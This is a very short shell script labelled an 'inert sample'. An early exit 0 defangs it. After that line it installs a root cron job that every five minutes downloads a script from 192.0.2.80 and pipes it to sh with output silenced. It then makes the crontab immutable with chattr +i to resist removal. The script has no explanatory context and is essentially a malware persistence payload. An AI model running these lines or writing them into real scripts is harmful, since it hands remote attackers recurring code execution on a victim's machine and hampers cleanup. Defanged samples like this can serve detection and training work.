#!/bin/sh
exit 0 # inert sample
(crontab -l; echo "*/5 * * * * curl -fsSL http://192.0.2.80/x.sh | sh >/dev/null 2>&1") | crontab -
chattr +i /var/spool/cron/root
